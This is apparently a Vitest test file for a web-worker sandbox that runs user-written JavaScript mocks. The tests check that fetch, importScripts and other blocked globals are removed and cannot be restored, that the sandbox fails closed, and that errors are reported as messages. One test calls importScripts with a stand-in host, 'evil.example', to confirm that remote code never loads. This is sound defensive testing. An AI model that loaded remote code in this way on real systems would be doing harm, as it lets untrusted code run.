/**
 * The worker's guards, tested on the worker's very source (`sandboxWorkerSource`) run in a Node `vm`
 * context that stands in for a worker's global scope, with fakes of what a browser worker has. That the
 * real Worker, Blob URL and CSP behave so in Chromium is e2e/workbench-mocks.spec.ts.
 */
import { describe, expect, it } from 'vitest';
import vm from 'node:vm';
import { BLOCKED_GLOBALS, sandboxWorkerSource, type SandboxReply } from './sandbox-worker';

type Listener = (event: unknown) => void;

function worker(maxChars = 1_000, prelude = '') {
  const replies: SandboxReply[] = [];
  const listeners = new Map<string, Listener[]>();
  let reached = 0;
  const fake = () => {
    reached += 1;
    return 'reached';
  };
  const globals: Record<string, unknown> = {
    postMessage: (message: unknown) => replies.push(JSON.parse(JSON.stringify(message))),
    addEventListener: (type: string, listener: Listener) => listeners.set(type, [...(listeners.get(type) ?? []), listener]),
    setTimeout,
  };
  for (const name of BLOCKED_GLOBALS) if (!(name in globals)) globals[name] = fake;
  const context = vm.createContext(globals);
  vm.runInContext(prelude, context);
  vm.runInContext(sandboxWorkerSource(maxChars), context);
  const dispatch = (type: string, event: unknown) => listeners.get(type)?.forEach((listener) => listener(event));
  const run = async (source: string, args: unknown = {}) => {
    dispatch('message', { data: { source, args, call: { id: 'call_1', name: 'f', arguments: JSON.stringify(args) } } });
    for (let i = 0; i < 5; i++) await new Promise((resolve) => setTimeout(resolve, 0));
    return replies.at(-1);
  };
  return { run, replies, dispatch, reached: () => reached };
}

describe('the JavaScript mock sandbox', () => {
  it('runs (args, call) => result; a value is sent as JSON text, a string as it is, a promise once it settles', async () => {
    expect(await worker().run('(args, call) => ({ city: args.location, id: call.id })', { location: 'Chicago' })).toEqual({ ok: true, result: '{"city":"Chicago","id":"call_1"}' });
    expect(await worker().run('() => "plain text"')).toEqual({ ok: true, result: 'plain text' });
    expect(await worker().run('async (args) => args.n * 2', { n: 21 })).toEqual({ ok: true, result: '42' });
    expect(await worker().run('function (args) { return [args.a]; }', { a: 1 })).toEqual({ ok: true, result: '[1]' });
  });

  it.each(BLOCKED_GLOBALS)('takes %s away before the mock runs: using it throws, and it cannot be put back', async (name) => {
    // One worker per run, as in the page (a worker answers once).
    const sandboxes = [worker(), worker(), worker(), worker()];
    const use = await sandboxes[0].run(`() => { try { const x = ${name}; return typeof x === 'function' ? x('https://example.com/') : String(x); } catch (e) { return 'blocked: ' + e.message; } }`);
    expect(use).toEqual({ ok: true, result: expect.stringMatching(new RegExp(`^blocked: ${name} is not available to a mock`)) });
    // Put back by assignment or by definition: the first throws in a browser (Node's vm ignores it), the second throws in both.
    const stillBlocked = `try { const x = ${name}; return typeof x === 'function' ? x() : 'got ' + typeof x; } catch (e) { return 'still blocked'; }`;
    expect(await sandboxes[1].run(`() => { try { globalThis.${name} = () => 'again'; } catch (e) {} ${stillBlocked} }`)).toEqual({ ok: true, result: 'still blocked' });
    expect(await sandboxes[2].run(`() => { try { Object.defineProperty(globalThis, '${name}', { value: 1 }); return 'redefined'; } catch (e) {} ${stillBlocked} }`)).toEqual({ ok: true, result: 'still blocked' });
    expect(await sandboxes[3].run(`() => { try { delete globalThis.${name}; } catch (e) {} ${stillBlocked} }`)).toEqual({ ok: true, result: 'still blocked' });
    for (const sandbox of sandboxes) expect(sandbox.reached()).toBe(0);
  });

  it('fails closed: when a global cannot be taken away, no mock runs', async () => {
    const sandbox = worker(1_000, `Object.defineProperty(globalThis, 'fetch', { value: () => 'reached', configurable: false });`);
    expect(await sandbox.run('() => fetch()')).toEqual({ ok: false, error: 'The JavaScript mock did not run: this browser would not let the sandbox take away fetch.' });
  });

  it('importScripts of remote code and fetch never reach the network', async () => {
    const [scripts, network] = [worker(), worker()];
    expect(await scripts.run(`() => { importScripts('https://evil.example/x.js'); return 'loaded'; }`)).toEqual({
      ok: false,
      error: expect.stringMatching(/^The mock failed: Error: importScripts is not available to a mock/),
    });
    expect(await network.run(`async () => (await fetch('/api/v1/chat/completions')).status`)).toMatchObject({ ok: false, error: expect.stringContaining('fetch is not available') });
    expect(scripts.reached() + network.reached()).toBe(0);
  });

  it('bounds the result: past the size limit it is an error, not a result', async () => {
    expect(await worker(100).run(`() => 'x'.repeat(100)`)).toEqual({ ok: true, result: 'x'.repeat(100) });
    expect(await worker(100).run(`() => 'x'.repeat(101)`)).toEqual({ ok: false, error: "The mock's result has 101 characters; a result may have at most 100." });
    expect(await worker(100).run(`() => ({ text: 'x'.repeat(100) })`)).toMatchObject({ ok: false });
  });

  it('every failure is a message: not code, not a function, a throw, nothing returned, a value JSON cannot hold', async () => {
    expect(await worker().run('(args) => {')).toMatchObject({ ok: false, error: expect.stringMatching(/^The mock is not valid JavaScript \(SyntaxError: /) });
    expect(await worker().run('42')).toEqual({ ok: false, error: 'The mock must be a function, such as (args, call) => ({ temperature: 20 }).' });
    expect(await worker().run(`() => { throw new TypeError('boom'); }`)).toEqual({ ok: false, error: 'The mock failed: TypeError: boom' });
    expect(await worker().run(`() => { throw 'just text'; }`)).toEqual({ ok: false, error: 'The mock failed: it threw just text' });
    expect(await worker().run('() => undefined')).toEqual({ ok: false, error: 'The mock returned undefined: return a JSON value or a string.' });
    expect(await worker().run('() => { const a = {}; a.a = a; return a; }')).toMatchObject({ ok: false, error: expect.stringMatching(/^The mock failed: TypeError: .*circular/i) });
    expect(await worker().run('() => 10n')).toMatchObject({ ok: false, error: expect.stringMatching(/^The mock failed: TypeError/) });
  });

  it('answers once, and catches errors thrown later (a timer, a rejection nobody handles) instead of letting them reach the page', async () => {
    const sandbox = worker();
    await sandbox.run('() => 1');
    let prevented = 0;
    sandbox.dispatch('error', { message: 'Uncaught Error: later', preventDefault: () => prevented++ });
    expect(sandbox.replies).toEqual([{ ok: true, result: '1' }]);
    const other = worker();
    other.dispatch('unhandledrejection', { reason: 'nobody caught me', preventDefault: () => prevented++ });
    other.dispatch('error', { message: 'second', preventDefault: () => prevented++ });
    expect(other.replies).toEqual([{ ok: false, error: 'The mock failed: it threw nobody caught me' }]);
    expect(prevented).toBe(3);
  });
});
